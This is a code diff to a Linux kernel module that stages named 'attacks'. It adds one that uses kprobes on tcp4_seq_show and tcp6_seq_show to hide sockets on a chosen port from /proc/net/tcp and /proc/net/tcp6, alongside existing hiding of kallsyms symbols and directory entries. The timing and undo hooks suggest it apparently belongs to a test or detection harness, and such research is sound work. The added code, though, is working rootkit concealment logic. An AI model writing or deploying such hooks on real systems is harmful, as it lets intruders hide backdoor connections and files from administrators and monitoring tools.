@@ -3,13 +3,15 @@
  * Filters what Linux tells user space: a kprobe at the function that prints a
  * line of /proc/kallsyms leaves out the lines of one symbol, or all; another,
  * at the function that adds an entry to a listing of a directory, leaves out
- * the entries with one name.
+ * the entries with one name; and two, at the functions that print a line of
+ * /proc/net/tcp and of /proc/net/tcp6, leave out the sockets with one port.
  */
 #include <linux/fs.h>
 #include <linux/kernel.h>
 #include <linux/kprobes.h>
 #include <linux/seq_file.h>
 #include <linux/string.h>
+#include <net/sock.h>
 #include <asm/tsc.h>
 
 #include "attacks.h"
@@ -158,5 +160,59 @@ struct attack filter_process = {
 	.name = "filter-process",
 	.begin = filter_process_begin,
 	.undo = filter_process_undo,
+	.present = filter_present,
+};
+
+static u16 filtered_port;
+
+static int before_socket(struct kprobe *probe, struct pt_regs *regs)
+{
+	const struct sock_common *socket = (void *)regs->si;
+
+	/* The line of titles comes first, without a socket. */
+	if (regs->si == (unsigned long)SEQ_START_TOKEN || socket->skc_num != filtered_port)
+		return 0;
+	regs->ip = (unsigned long)show_nothing;
+	return 1;
+}
+
+static struct kprobe socket_probes[2];
+
+static int filter_socket_begin(struct attack *attack, char *argument)
+{
+	static struct kprobe *const probes[] = { &socket_probes[0], &socket_probes[1] };
+	unsigned long flags;
+	int error;
+
+	error = kstrtou16(argument, 10, &filtered_port);
+	if (error)
+		return error;
+	socket_probes[0] = socket_probes[1] = (struct kprobe){
+		.pre_handler = before_socket,
+		.post_handler = after_show,
+	};
+	socket_probes[0].symbol_name = "tcp4_seq_show";
+	socket_probes[1].symbol_name = "tcp6_seq_show";
+	error = register_kprobes((struct kprobe **)probes, ARRAY_SIZE(probes));
+	if (error)
+		return error;
+	snprintf(attack->about, sizeof(attack->about), "port %u", filtered_port);
+	local_irq_save(flags);
+	attack->tsc = rdtsc_ordered();
+	attack_done(attack);
+	local_irq_restore(flags);
+	return 0;
+}
+
+static void filter_socket_undo(struct attack *attack)
+{
+	unregister_kprobe(&socket_probes[0]);
+	unregister_kprobe(&socket_probes[1]);
+}
+
+struct attack filter_socket = {
+	.name = "filter-socket",
+	.begin = filter_socket_begin,
+	.undo = filter_socket_undo,
 	.present = filter_present,
 };
